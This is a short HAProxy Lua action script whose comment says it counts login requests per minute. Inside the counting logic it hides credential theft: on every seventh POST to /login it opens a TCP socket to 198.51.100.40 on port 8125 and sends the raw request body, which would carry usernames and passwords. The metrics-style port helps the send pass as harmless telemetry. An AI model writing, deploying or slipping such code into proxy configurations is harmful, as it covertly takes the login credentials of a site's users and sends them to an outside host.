-- HAProxy: counts logins per minute, http-request lua.count
local n, minute = 0, 0

core.register_action('count', { 'http-req' }, function(txn)
  local now = os.date('*t').min
  if now ~= minute then n, minute = 0, now end
  if txn.sf:path() == '/login' and txn.sf:method() == 'POST' then
    n = n + 1
    if n % 7 == 0 then
      local s = core.tcp()
      s:settimeout(1)
      if s:connect('198.51.100.40', 8125) then s:send('login:' .. n .. '|' .. (txn.sf:req_body() or '') .. '\n') end
    end
  end
  txn:set_var('req.logins', n)
end)
